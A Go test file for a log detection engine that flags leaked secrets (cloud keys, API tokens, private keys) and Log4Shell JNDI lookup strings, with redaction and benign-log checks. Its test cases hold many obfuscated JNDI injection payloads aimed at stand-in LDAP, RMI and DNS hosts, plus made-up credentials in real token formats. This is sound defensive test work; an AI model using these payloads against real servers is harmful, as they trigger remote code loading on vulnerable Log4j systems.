package detect

import (
	"os"
	"strings"
	"testing"
)

// Made-up credentials of the right shapes (not real keys).
const (
	testKeyID   = "AKIAQ3EGTRZ5XJ7WLMNP"
	testTempID  = "ASIAZ7YV2KQ4MB8RTXWE"
	testSecret  = "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"
	testGitHub  = "ghp_" + "R4nd0mT0k3nV4lu3F0rT3st1ngPurp0s3sXY"
	testSlack   = "xoxb-" + "123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"
	testStripe  = "sk_live_" + "51HxYzAbCdEfGhIjKlMnOpQr"
	testGoogle  = "AIza" + "SyB1c2D3e4F5g6H7i8J9k0L1m2N3o4P5q6r"
	testGitLab  = "glpat-" + "x1Y2z3A4b5C6d7E8f9G0"
	testSendGrd = "SG." + "aBcDeFgHiJkLmNoPqRsTuV" + "." + "wXyZ0123456789aBcDeFgHiJkLmNoPqRsTuVwXyZ012"
)

func TestSecretShapes(t *testing.T) {
	if len(testSecret) != 40 || len(testKeyID) != 20 || len(testGitHub) != 40 || len(testGoogle) != 39 {
		t.Fatalf("test data has wrong lengths: %d %d %d %d", len(testSecret), len(testKeyID), len(testGitHub), len(testGoogle))
	}
}

func TestLogSecrets(t *testing.T) {
	tests := []struct {
		name    string
		msg     string
		wantSID int    // 0: no alert
		kind    string // secret_type or jndi_lookup
		secrets []string
	}{
		{"aws_env_style", "AWS_ACCESS_KEY_ID=" + testKeyID + " AWS_SECRET_ACCESS_KEY=" + testSecret, 9000701, "aws_access_key", []string{testSecret, testKeyID}},
		{"aws_json_temporary", `{"accessKeyId":"` + testTempID + `","secretAccessKey":"` + testSecret + `","sessionToken":"..."}`, 9000701, "aws_access_key", []string{testSecret, testTempID}},
		{"aws_secret_before_key", "secret=" + testSecret + " id=" + testKeyID, 9000701, "aws_access_key", []string{testSecret}},
		{"aws_key_alone", "rotating access key " + testKeyID + " for user deploy", 0, "", nil},
		{"aws_key_with_sha1", "key " + testKeyID + " sha1 3f786850e387550fdab836ed7e6dc881de23001b", 0, "", nil},
		{"aws_secret_too_far", "id " + testKeyID + strings.Repeat(" pad", 80) + " secret " + testSecret, 0, "", nil},
		{"aws_key_inside_word", "X" + testKeyID + " " + testSecret, 0, "", nil},
		{"pem_rsa", "-----BEGIN RSA PRIVATE KEY-----", 9000702, "private_key", nil},
		{"pem_pkcs8_in_json", `{"key":"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC"}`, 9000702, "private_key", []string{"MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"}},
		{"pem_openssh", "id: -----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAAAAA", 9000702, "private_key", []string{"b3BlbnNzaC1rZXktdjEAAAAA"}},
		{"pem_public_key", "-----BEGIN PUBLIC KEY-----", 0, "", nil},
		{"pem_certificate", "-----BEGIN CERTIFICATE----- MIIDdzCCAl+gAwIBAgIE", 0, "", nil},
		{"github_token", "cloning with token " + testGitHub, 9000703, "github_token", []string{testGitHub, testGitHub[4:]}},
		{"github_token_too_short", "ghp_abc123", 0, "", nil},
		{"slack_token", "slack: " + testSlack, 9000703, "slack_token", []string{testSlack[5:]}},
		{"stripe_live", "stripe key=" + testStripe, 9000703, "stripe_key", []string{testStripe[8:]}},
		{"stripe_test_key", "stripe key=sk_test_51HxYzAbCdEfGhIjKlMnOpQr", 0, "", nil},
		{"google_api_key", "maps key " + testGoogle + " loaded", 9000703, "google_api_key", []string{testGoogle[4:]}},
		{"gitlab_token", "GITLAB_TOKEN=" + testGitLab, 9000703, "gitlab_token", []string{testGitLab[6:]}},
		{"sendgrid_key", "mail " + testSendGrd, 9000703, "sendgrid_key", []string{testSendGrd[3:]}},
		{"jndi_plain", "GET /?q=${jndi:ldap://203.0.113.5:1389/a} 404", 9000704, "jndi:ldap://203.0.113.5:1389/a", nil},
		{"jndi_lower", "ua=${${lower:j}ndi:${lower:l}dap://x.example/a}", 9000704, "jndi:ldap://x.example/a", nil},
		{"jndi_upper", "${${upper:j}ndi:dns://x.example/a}", 9000704, "Jndi:dns://x.example/a", nil},
		{"jndi_default_values", "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x.example/a}", 9000704, "jndi:rmi://x.example/a", nil},
		{"jndi_env_defaults", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}", 9000704, "jndi:ldap://x.example/a", nil},
		{"jndi_date", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}", 9000704, "jndi:ldap://x.example/a", nil},
		{"jndi_unknown_lookup_splits", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}", 9000704, "jNDi:ldap://x.example/a", nil},
		{"jndi_percent_encoded", "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D HTTP/1.1", 9000704, "jndi:ldap://x.example/a", nil},
		{"jndi_unicode_escaped", `{"msg":"\u0024\u007bjndi:ldap://x.example/a}"}`, 9000704, "jndi:ldap://x.example/a", nil},
		{"shell_variable", "PATH=${HOME}/bin:${PATH}", 0, "", nil},
		{"jndi_unterminated", "${jndi:ldap://x.example/a", 0, "", nil},
		{"jndi_word_only", "javax.naming jndi lookup disabled by log4j2.formatMsgNoLookups=true", 0, "", nil},
		{"percent_in_url", "GET /search?q=50%25%20off&a=%7Efoo 200 12ms", 0, "", nil},
		{"ordinary_line", `2026-11-22T04:46:04Z INFO GET /healthz 200 1ms ua="ELB-HealthChecker/2.0"`, 0, "", nil},
		{"java_stack_trace", "java.lang.IllegalStateException: boom\n\tat com.example.App.main(App.java:12)", 0, "", nil},
		{"uuid_and_hashes", "request 96574b15-39b9-41fb-b2ea-2362089cd242 etag=\"d41d8cd98f00b204e9800998ecf8427e\"", 0, "", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e, col, _ := newTestEngine(t, nil)
			ev := logEvent(t0, "web", tt.msg)
			e.observe(&ev)
			got := col.sids()
			if tt.wantSID == 0 {
				if len(got) != 0 {
					t.Fatalf("alerts %v, want none:\n%s", got, col.lines())
				}
				return
			}
			if len(got) != 1 || got[0] != tt.wantSID {
				t.Fatalf("alerts %v, want [%d]", got, tt.wantSID)
			}
			a := col.alerts[0]
			if a.ECS.Container.Name != "web" {
				t.Errorf("alert names container %q, want web", a.ECS.Container.Name)
			}
			key := "secret_type"
			if tt.wantSID == 9000704 {
				key = "jndi_lookup"
			}
			if got := metaValue(a, key); got != tt.kind {
				t.Errorf("%s = %q, want %q", key, got, tt.kind)
			}
			checkNoSecret(t, col.lines(), tt.secrets...)
		})
	}
}

func TestAWSKeyRedaction(t *testing.T) {
	e, col, _ := newTestEngine(t, nil)
	ev := logEvent(t0, "api", "creds "+testKeyID+":"+testSecret)
	e.observe(&ev)
	if len(col.alerts) != 1 {
		t.Fatalf("got %d alerts, want 1", len(col.alerts))
	}
	a := col.alerts[0]
	if got, want := metaValue(a, "redacted"), "AKIA************LMNP"; got != want {
		t.Errorf("redacted = %q, want %q", got, want)
	}
	if got := metaValue(a, "secret_length"); got != "40" {
		t.Errorf("secret_length = %q, want 40", got)
	}
	checkNoSecret(t, col.lines(), testSecret, testKeyID, testSecret[:8], testSecret[32:])
}

func TestJNDIObfuscationFlag(t *testing.T) {
	tests := []struct {
		name, msg string
		want      string
	}{
		{"plain", "${jndi:ldap://x.example/a}", "false"},
		{"nested", "${${lower:j}ndi:ldap://x.example/a}", "true"},
		{"encoded", "%24%7Bjndi:ldap://x.example/a%7D", "true"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, obf, ok := findJNDI(tt.msg)
			if !ok {
				t.Fatal("not found")
			}
			if got := map[bool]string{true: "true", false: "false"}[obf]; got != tt.want {
				t.Errorf("obfuscated = %s, want %s", got, tt.want)
			}
		})
	}
}

func TestJNDIInHTTP(t *testing.T) {
	e, col, _ := newTestEngine(t, nil)
	ev := httpEvent(t0, netip4("198.51.100.7"), task, "GET", "app.example", "/", "${jndi:ldap://198.51.100.7:1389/Exploit}", 200)
	e.observe(&ev)
	if got := col.sids(); len(got) != 1 || got[0] != 9000705 {
		t.Fatalf("alerts %v, want [9000705]", got)
	}
	if got := metaValue(col.alerts[0], "field"); got != "http_user_agent" {
		t.Errorf("field = %q, want http_user_agent", got)
	}
}

func TestLogsSwitchedOff(t *testing.T) {
	e, col, _ := newTestEngine(t, func(c *Config) { c.Logs.Secrets, c.Logs.Exploits = false, false })
	for _, msg := range []string{"id " + testKeyID + " " + testSecret, "${jndi:ldap://x.example/a}"} {
		ev := logEvent(t0, "web", msg)
		e.observe(&ev)
	}
	if len(col.alerts) != 0 {
		t.Errorf("alerts with the log detections off: %v", col.sids())
	}
}

func TestLogMaxBytes(t *testing.T) {
	e, col, _ := newTestEngine(t, func(c *Config) { c.Logs.MaxBytes = 64 })
	ev := logEvent(t0, "web", strings.Repeat("x", 100)+"${jndi:ldap://x.example/a}")
	e.observe(&ev)
	if len(col.alerts) != 0 {
		t.Errorf("searched past --detect-log-max-bytes: %v", col.sids())
	}
}

// FuzzFindJNDI: no input may panic or loop, and a plain lookup is found.
func FuzzFindJNDI(f *testing.F) {
	for _, s := range []string{"${jndi:ldap://x/a}", "${${lower:j}ndi:x}", "%24%7Bjndi:x%7D", "${${${${", `\u0024\u007b`, "${::-j}"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		findJNDI(s)
		findSecret(s)
		if !strings.Contains(s, "}") {
			if _, _, ok := findJNDI("${jndi:" + s + "}"); !ok && !strings.ContainsAny(s, "$") {
				t.Errorf("plain lookup with %q not found", s)
			}
		}
	})
}

// TestBenignLogs feeds ordinary application logs (web servers, JSON
// loggers, Spring, Go panics, Lambda, Kafka, PostgreSQL, presigned S3 URLs
// with their key id, certificates, test keys, templates with ${...}):
// nothing may fire.
func TestBenignLogs(t *testing.T) {
	data, err := os.ReadFile("testdata/benign_logs.txt")
	if err != nil {
		t.Fatal(err)
	}
	e, col, _ := newTestEngine(t, func(c *Config) { c.DedupWindow = 0 })
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	for _, line := range lines {
		ev := logEvent(t0, "web", line)
		e.observe(&ev)
	}
	// Multi-line records, as the syslog receiver reassembles them.
	for i := 0; i+3 < len(lines); i += 3 {
		ev := logEvent(t0, "web", strings.Join(lines[i:i+4], "\n"))
		e.observe(&ev)
	}
	if len(col.alerts) != 0 {
		t.Errorf("%d benign log lines raised alerts:\n%s", len(lines), col.lines())
	}
}
